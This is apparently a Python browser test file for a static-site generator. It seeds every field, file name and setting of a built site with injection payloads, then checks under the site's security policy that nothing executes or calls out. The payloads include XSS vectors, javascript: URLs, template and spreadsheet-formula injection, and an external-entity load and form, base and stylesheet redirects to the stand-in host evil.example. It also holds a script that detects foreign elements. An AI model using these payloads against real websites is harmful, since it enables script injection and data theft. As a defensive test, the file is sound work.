"""Strangers' text in a real browser: no script runs, no request leaves, no foreign element appears.

Every field of every format holds payloads of every class, file names and settings too, and the site
is served under the strictest policy that SECURITY.md promises to live with.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest

from benchmarks.hosting import Host, serve
from dayleaf.site.pages.headers import POLICY
from tests.sites import Site, digest, path, record

pytestmark = pytest.mark.browser

RUN = "window.ran=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f" onmouseover={RUN} autofocus tabindex=1 onfocus={RUN} x=",
    f"x onfocus={RUN} id=",
    f"><iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<form action=//evil.example/><input name=q><button>go</button></form>",
    "<object data=//evil.example/><embed src=//evil.example/>",
    f"[x](javascript:{RUN}) <a href=javascript:{RUN}>x</a>",
    f"\\href{{javascript:{RUN}}}{{x}} \\url{{data:text/html,<script>{RUN}</script>}}",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\text{{<img src=x onerror={RUN}>}}$",
    f"$\\style{{x:expression({RUN})}}{{y}}$ $\\class{{a}} {{b}}$ $\\unicode{{x3c}}$",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"{{{{ 7 * 7 }}}} {{% raw %}} {{{{ cycler.__init__.__globals__ }}}} <%= {RUN} %>",
    f"<!--><img src=x onerror={RUN}>--> <![CDATA[<script>{RUN}</script>]]> ]]>",
    (
        f"<template><script>{RUN}</script></template>"
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>"
    ),
    f"<details open ontoggle={RUN}>x</details><video src=x onerror={RUN}>",
    f"\u202ejs.txt\u202c \u2066{RUN}\u2069 \u200b\ufeff\u00ad",
    'http://evil.example/"onclick="x\' https://a.org/<script> www.evil.example/`x',
    f"`${{{RUN}}}` '+{RUN}+' \\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3c \\\\",
    f"=HYPERLINK(\"//evil.example\") +cmd|' /C calc'!A0 }} @misc{{x, note = {{{RUN}",
    (
        f"<?xml-stylesheet href='javascript:{RUN}'?>"
        "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.example/'>]>&e;"
    ),
)
FOREIGN = """() => [...document.querySelectorAll(
    "iframe, object, embed, base, template, video, style, img:not([src^='data:'])," +
    "form:not([role]), meta[http-equiv]:not([http-equiv$=Policy])," +
    "script:not([src]):not([type='application/ld+json']), main script, link[href*='//evil']," +
    "[autofocus], animate"
  )].filter(one => !(one.matches("form") && one.action.startsWith(location.origin)))
    .concat([...document.querySelectorAll("*")].filter(one =>
      [...one.attributes].some(({ name, value }) =>
        name.startsWith("on") ||
        (/^(href|src|action|formaction|xlink:href|data)$/.test(name) &&
          /^\\s*(javascript|data:text|vbscript)/i.test(value)))))
    .map(one => one.outerHTML.slice(0, 200))"""


def lay_out(folder: Path) -> Site:
    """A paper for each payload, with it in every field; another format, a file's name, settings."""
    made = Site(folder)
    papers = [
        record(
            f"2112.{number:05}",
            title=f"Title {payload}",
            authors=f"Ada {payload.replace(',', ' ')}, Bo Fenn",
            categories=f"**cs.CV**, cs.LG, {payload}, 68T45",
            comment=f"Comment {payload} accepted",
            journal=f"Journal {payload}",
            summary=f"Abstract {payload}. We measure teapots.",
        )
        .replace("**DOI**: None", f"**DOI**: 10.1000/{quote(payload[:6])}{payload}")
        .replace(f"[PDF](http://arxiv.org/pdf/2112.{number:05}v1)", f"[PDF]({payload})")
        for number, payload in enumerate(PAYLOADS, 1)
    ]
    made.edit(path("2021-12-19"), digest(*papers))
    listed = [
        {
            "id": f"2112.{number + 500:05}",
            "title": f"Title {payload}",
            "authors": [f"Cy {payload}", {"name": payload}],
            "summary": payload,
            "tldr": payload,
            "comment": payload,
            "categories": ["cs.CV", payload],
            "keywords": [payload],
            "code_url": f"https://github.com/a/{payload}",
            "pdf_url": f"javascript:{RUN}",
            "url": payload,
            "score": payload,
            payload: payload,
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    made.edit("content/data/2021-12-20.json", json.dumps(listed))
    odd = f"content/<img src=x onerror={RUN}>\n::error::20211221.md"
    made.edit(odd, digest(record("2112.00999", day="2021-12-21"), day="2021-12-21"))
    title = f"Days {PAYLOADS[5]} {PAYLOADS[0]}"
    settings = {
        "title": title,
        "description": PAYLOADS[2],
        "base_url": "https://example.org/archive/",
    }
    made.edit("site.toml", "".join(f"{k} = {json.dumps(v)}\n" for k, v in settings.items()))
    made.edit("about.md", "\n\n".join(PAYLOADS))
    return made


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = lay_out(tmp_path_factory.mktemp("strangers"))
    site.build(search=True)
    return site


@pytest.fixture(scope="module")
def host(made: Site) -> Iterator[Host]:
    with serve(made.public) as found:
        found.headers["Content-Security-Policy"] = POLICY
        yield found


class Watch:
    """A page, and all that it did which it must not."""

    def __init__(self, chromium: Any, host: Host) -> None:
        self.host = host
        self.wrong: list[str] = []
        self.context = chromium.new_context(
            bypass_csp=False, permissions=["clipboard-read", "clipboard-write"]
        )
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: self.wrong.append(f"dialog {dialog.message}"))
        self.page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))
        self.page.on("request", self._asked)
        self.page.on("console", self._said)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.host.url, "data:", "blob:")):
            self.wrong.append(f"request to {request.url[:100]}")

    def _said(self, message: Any) -> None:
        if "Content Security Policy" in message.text or "Refused" in message.text:
            self.wrong.append(message.text[:200])

    def go(self, address: str) -> None:
        self.page.goto(self.host.url + address)

    def check(self, where: str) -> None:
        """Assert that nothing ran, left or appeared."""
        found = self.page.evaluate(FOREIGN)
        assert found == [], where
        assert not self.page.evaluate("window.ran"), where
        assert self.wrong == [], where


@pytest.fixture
def watch(chromium: Any, host: Host) -> Iterator[Watch]:
    made = Watch(chromium, host)
    yield made
    made.context.close()


def test_every_page_of_every_kind(watch: Watch, made: Site) -> None:
    pages = sorted(made.public.rglob("*.html"))
    assert len(pages) > 50
    for page in pages:
        if "http-equiv=refresh" in page.read_text(encoding="utf-8"):
            continue  # leads on to a page that is among them
        watch.go(quote(page.relative_to(made.public).as_posix().removesuffix("index.html")))
        watch.page.wait_for_load_state("load")
        watch.check(str(page))


def test_search_with_payloads_as_queries_and_filters(watch: Watch) -> None:
    settled = "#search-status[aria-busy=false]"  # a function would be an eval, which is forbidden
    for payload in PAYLOADS:
        watch.go(f"search/?q={quote(payload)}&category={quote(payload)}&year={quote(payload)}")
        watch.page.wait_for_timeout(50)
        watch.go(f"search/?q={quote(payload)}")
        watch.page.wait_for_selector(settled, state="attached")
        watch.check(f"search for {payload}")
    watch.go("search/?q=title")
    watch.page.wait_for_selector("#search-results > li:nth-child(20)")
    watch.check("results")


def test_overlay_suggestions_and_the_reading_list(watch: Watch) -> None:
    watch.go("2021/12/19/")
    buttons = watch.page.query_selector_all("button.save")
    assert len(buttons) == len(PAYLOADS)
    for button in buttons:
        button.click()
    for button in watch.page.query_selector_all("button.cite"):
        button.click()
    watch.page.keyboard.press("/")
    watch.page.wait_for_selector("dialog[open] input")
    for text in ("ada", "cy", "title", "<img"):
        watch.page.fill("dialog[open] input", text)
        watch.page.wait_for_timeout(400)
        watch.check(f"overlay with {text}")
    watch.page.keyboard.press("Escape")
    watch.go("reading-list/")
    watch.page.wait_for_selector(f".saved > li:nth-child({len(PAYLOADS)})")
    watch.check("the reading list")
    watch.page.get_by_role("button", name="Export").click()
    for name in ("bibtex", "biblatex", "ris", "csl", "text"):
        watch.page.select_option("dialog[open] select", name)
    watch.check("the export")
    watch.go("new/")
    watch.page.wait_for_selector("article .cite")
    watch.check("what is new")
    for payload in PAYLOADS:
        watch.go(f"interests/#interests={quote(json.dumps([{'sort': 'words', 'value': payload}]))}")
    watch.check("the interests")
    watch.go("2021/12/19/")
    watch.page.wait_for_selector(".followed")
    watch.check("papers that are followed")


def test_addresses_that_do_not_exist(watch: Watch) -> None:
    for payload in PAYLOADS:
        watch.go(f"abs/{quote(payload, safe='')}?{quote(payload)}#{quote(payload)}")
        watch.page.wait_for_timeout(60)
        watch.check(f"/abs/{payload}")


def test_feeds_and_sitemaps_are_well_formed(made: Site) -> None:
    for file in sorted(made.public.rglob("*.xml")):
        ET.parse(file)  # noqa: S314 - our own
    for file in sorted(made.public.rglob("*.json")):
        json.loads(file.read_bytes())
    report = (made.folder / ".dayleaf/problems.txt").read_text()
    assert "\n::" not in report
